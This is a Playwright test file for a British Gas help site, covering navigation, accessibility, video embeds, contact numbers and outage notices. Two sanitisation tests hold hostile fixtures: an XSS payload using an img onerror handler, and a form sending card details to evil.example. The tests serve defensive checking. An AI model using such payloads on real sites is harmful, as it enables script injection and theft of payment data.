import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { AREA, BASE_URL, expectNoAxeViolations, imageErrors, useBrowser } from './support/browser';
import { whenLive } from './support/islands';
import { BASENAME } from '../../src/config/paths';
import { CONTENT_PATHS } from '../../src/config/content-paths';

const browser = useBrowser();

const contact = JSON.parse(readFileSync('content/contact.json', 'utf8')) as {
  phoneLines: { name: string; number: string }[];
};

/** How far the page scrolls sideways: nothing on it may be wider than the screen. */
const sidewaysScroll = (page: Page) =>
  page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);

describe('help content', () => {
  it('walks from the landing page through a tile and a category to an article', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/`);
    await whenLive(page); // prerendered: act once it is live
    await page.getByRole('heading', { level: 1, name: 'Help & Support' }).waitFor();
    assert.equal(await page.title(), 'Help & Support - British Gas');
    assert.match(await page.getByRole('main').innerText(), /helping over 300,000 customers/);
    await expectNoAxeViolations(page);

    await page.getByRole('link', { name: /^Meters/ }).click();
    await page.getByRole('heading', { level: 1, name: 'Meters' }).waitFor();
    assert.equal(page.url(), `${AREA}/meters`);
    assert.equal(await page.title(), 'Meters - Help & Support - British Gas');
    await expectNoAxeViolations(page);

    await page.getByRole('link', { name: 'Think your meter is faulty?' }).click();
    await page.getByRole('heading', { level: 1, name: 'Think your meter is faulty?' }).waitFor();
    assert.equal(await page.title(), 'Think your meter is faulty? - Help & Support - British Gas');
    const description = await page.locator('meta[name="description"]').getAttribute('content');
    assert.match(description ?? '', /meter/i);
    assert.equal(
      await page
        .getByRole('navigation', { name: 'Related articles' })
        .getByRole('listitem')
        .count(),
      5,
    );
    await expectNoAxeViolations(page);

    // The article is a reading page too (decision 026): its links load the next page, which the
    // browser announces and starts at its top, as any page load.
    const related = page.getByRole('navigation', { name: 'Related articles' }).getByRole('link');
    const next = (await related.first().innerText()).trim();
    const href = await related.first().getAttribute('href');
    await related.first().click();
    await page.waitForURL(`${BASE_URL}${href}`);
    await page.getByRole('heading', { level: 1, name: next }).waitFor();
    assert.equal(await page.evaluate(() => document.activeElement === document.body), true);
    assert.deepEqual(page.problems, []);
  });

  it('shows the landing page extras and asks nothing of the video host before a click', async () => {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const foreign: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(BASE_URL)) foreign.push(r.url());
    });
    await page.route('https://www.youtube-nocookie.com/**', (route) =>
      route.fulfill({ body: '<p>video</p>', contentType: 'text/html' }),
    );
    await page.goto(`${AREA}/`);
    const videos = page.getByRole('button', { name: /^Play video:/ });
    await videos.first().waitFor();
    assert.equal(await videos.count(), 7);
    for (const name of [
      'Moving home',
      'Bereavement',
      'Struggling to pay',
      'Warm Home Discount',
      'Emergencies',
      'Contact us',
    ]) {
      assert.equal(
        await page
          .getByRole('navigation', { name: 'More help' })
          .getByRole('link', { name, exact: true })
          .count(),
        1,
        name,
      );
    }
    await page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }).waitFor();
    assert.equal(
      await page.getByRole('link', { name: /PeakSave/ }).getAttribute('href'),
      'https://www.britishgas.co.uk/energy/peaksave.html',
    );
    assert.equal(
      foreign.length,
      0,
      `requests to other sites before any click: ${foreign.join(', ')}`,
    );

    // The landing page is prerendered: the player needs the page to be live.
    await whenLive(page);
    await videos.first().click();
    await page.frameLocator('iframe[title="How to read your meter"]').getByText('video').waitFor();
    assert.equal(
      foreign.length > 0 && foreign.every((u) => u.startsWith('https://www.youtube-nocookie.com/')),
      true,
    );
  });

  it('keeps the video strip within a phone screen, captions clear of the pictures', async () => {
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    await page.goto(`${AREA}/`);
    await whenLive(page);
    assert.equal(await sidewaysScroll(page), 0, 'the landing page scrolls sideways');

    // Each caption sits below its thumbnail, never drawn over it.
    const overlapping = await page.locator('.video-card__play').evaluateAll((buttons) =>
      buttons
        .filter((b) => {
          const img = b.querySelector('img')!.getBoundingClientRect();
          const caption = b.querySelector('.video-card__caption')!.getBoundingClientRect();
          return !(
            caption.right <= img.left ||
            caption.left >= img.right ||
            caption.bottom <= img.top ||
            caption.top >= img.bottom
          );
        })
        .map((b) => b.textContent),
    );
    assert.deepEqual(overlapping, []);

    // The strip shows that it scrolls: the second card shows at its edge.
    const strip = page.locator('.video-strip__list');
    const stripBox = (await strip.boundingBox())!;
    const second = (await page.locator('.video-card').nth(1).boundingBox())!;
    assert.ok(second.x < stripBox.x + stripBox.width, 'part of the second card is in view');
    assert.ok(second.x + second.width > stripBox.x + stripBox.width, 'the second card is cut off');

    // By keyboard: the last video scrolls into view when it takes focus, and the page still
    // does not scroll sideways.
    const last = page.getByRole('button', { name: 'Play video: Bleeding a radiator' });
    await last.focus();
    const lastBox = (await last.boundingBox())!;
    assert.ok(lastBox.x >= 0 && lastBox.x + lastBox.width <= 390, 'the focused card is in view');
    assert.equal(await sidewaysScroll(page), 0);
    await expectNoAxeViolations(page);
  });

  it('puts focus on the player after Play, and back on Play when it is closed', async () => {
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    await page.route('https://www.youtube-nocookie.com/**', (route) =>
      route.fulfill({ body: '<p>video</p>', contentType: 'text/html' }),
    );
    await page.goto(`${AREA}/`);
    await whenLive(page);
    await page.getByRole('button', { name: 'Play video: Understanding your bill' }).click();
    await page.frameLocator('iframe[title="Understanding your bill"]').getByText('video').waitFor();
    // The page's focus is on the player's frame. (Not `iframe:focus`: Chromium's headless shell,
    // which the tests drive, does not match :focus on a frame whose page it has not focused.)
    await page.waitForFunction(() =>
      document.activeElement?.matches('iframe[title="Understanding your bill"]'),
    );
    await page.getByRole('button', { name: 'Close video: Understanding your bill' }).click();
    await page
      .getByRole('button', { name: 'Play video: Understanding your bill' })
      .and(page.locator(':focus'))
      .waitFor();
    assert.equal(await page.locator('iframe').count(), 0);
    assert.equal(await sidewaysScroll(page), 0);
  });

  it('gives every way to contact us on a phone screen, numbers as tel: links', async () => {
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    await page.goto(`${AREA}/contact-us`);
    await page.getByRole('heading', { level: 2, name: 'Other ways to contact us' }).waitFor();
    for (const line of contact.phoneLines) {
      const link = page.getByRole('main').getByRole('link', { name: line.number, exact: true });
      assert.equal(await link.getAttribute('href'), `tel:${line.number.replace(/ /g, '')}`);
    }
    await page.getByRole('heading', { name: 'Relay UK' }).waitFor();
    // No post card while the address is unset: never placeholders.
    assert.equal(await page.getByRole('heading', { name: 'By post' }).count(), 0);
    assert.equal(await sidewaysScroll(page), 0, 'Contact us scrolls sideways');
    await expectNoAxeViolations(page);
  });

  it('shows an outage notice, sanitised, when there is one', async () => {
    const page = await browser.newPage();
    await page.route(`**${CONTENT_PATHS.outage}`, (route) =>
      route.fulfill({
        json: {
          title: 'Our phone lines are busy',
          message: `<p>We are fixing a fault. <a href="${BASENAME}/contact-us">Other ways to contact us</a></p><img src=x onerror="document.body.dataset.pwned=1">`,
        },
      }),
    );
    await page.goto(`${AREA}/`);
    await page.getByRole('heading', { name: 'Our phone lines are busy' }).waitFor();
    // Its title on the line kept for it; its message opened by the customer (no layout shift).
    await page.getByRole('button', { name: 'Our phone lines are busy' }).click();
    await page.getByText('We are fixing a fault.').waitFor();
    assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);
    await expectNoAxeViolations(page);
  });

  it('shows no outage banner when the notice is empty', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/`);
    await page.getByRole('heading', { name: 'Help topics' }).waitFor();
    await whenLive(page);
    await page.getByText('No service updates').waitFor();
    assert.equal(await page.locator('.outage-banner').count(), 0);
  });

  it('puts the emergency numbers first on a phone screen, as tel: links', async () => {
    const page = await browser.newPage({ viewport: { width: 360, height: 640 } });
    await page.goto(`${AREA}/emergencies`);
    for (const [name, href] of [
      ['0800 111 999', 'tel:0800111999'],
      ['105', 'tel:105'],
      ['0330 808 3880', 'tel:03308083880'],
    ]) {
      const link = page.getByRole('main').getByRole('link', { name, exact: true });
      assert.equal(await link.getAttribute('href'), href);
      const box = await link.boundingBox();
      assert.ok(box && box.y + box.height <= 640, `${name} is visible without scrolling`);
    }
    assert.equal(await page.title(), 'Emergencies - Help & Support - British Gas');
    await page.getByRole('heading', { name: 'Electrical safety advice' }).waitFor();
    await expectNoAxeViolations(page);
  });

  it('shows bills-and-payments with its campaign, Energy Trust promotion and back-to-top link', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/bills-and-payments`);
    await page.getByRole('heading', { name: 'Common questions' }).waitFor();
    await page
      .getByRole('heading', { name: 'Worried about energy bills? Three things that help' })
      .waitFor();
    await page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }).waitFor();
    await page.getByRole('link', { name: 'Back to top' }).waitFor();
    await expectNoAxeViolations(page);
  });

  it('sends an unknown category to page-not-found', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/gardening`);
    // The outcome, not the first navigation: one cut off is made again (redirect-to-not-found.tsx).
    await page.getByRole('heading', { level: 1, name: 'Page not found' }).waitFor();
    assert.equal(page.url(), `${BASE_URL}/page-not-found.html`);
  });

  it('sends an unknown article to page-not-found', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/meters/how-to-fly`);
    await page.waitForURL(`${BASE_URL}/page-not-found.html`);
  });

  it('renders a hostile article without its handler or its form', async () => {
    const page = await browser.newPage();
    await page.route('**/aem6/content/britishgas/help/meters/faulty-meter.html', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body:
          '<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>' +
          '<img src=x onerror="document.body.dataset.pwned=1"><form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>' +
          '</article></body></html>',
      }),
    );
    const images = await imageErrors(page);
    await page.goto(`${AREA}/meters/faulty-meter`);
    await page.getByRole('heading', { level: 1, name: 'Hostile' }).waitFor();
    // The image has failed: its handler, had it been kept, has run.
    await images.failed();
    assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);
    assert.equal(
      await page.locator('.article-body form, .article-body input, .article-body button').count(),
      0,
    );
    assert.equal(await page.locator('.article-body img[onerror]').count(), 0);
  });

  it('marks the article about leaving us nosnippet', async () => {
    const page = await browser.newPage();
    await page.goto(`${AREA}/my-account/leaving-us`);
    await page
      .getByRole('heading', { level: 1, name: 'Switching your energy away from us' })
      .waitFor();
    assert.equal(await page.locator('meta[name="robots"]').getAttribute('content'), 'nosnippet');
    // As built, the site's own address; once alive, the address in the bar (SPEC §2).
    await page.waitForFunction(
      (href) => document.querySelector<HTMLLinkElement>('link[rel="canonical"]')?.href === href,
      `${AREA}/my-account/leaving-us`,
    );
    assert.equal(await page.locator('link[rel="canonical"]').count(), 1);
  });
});
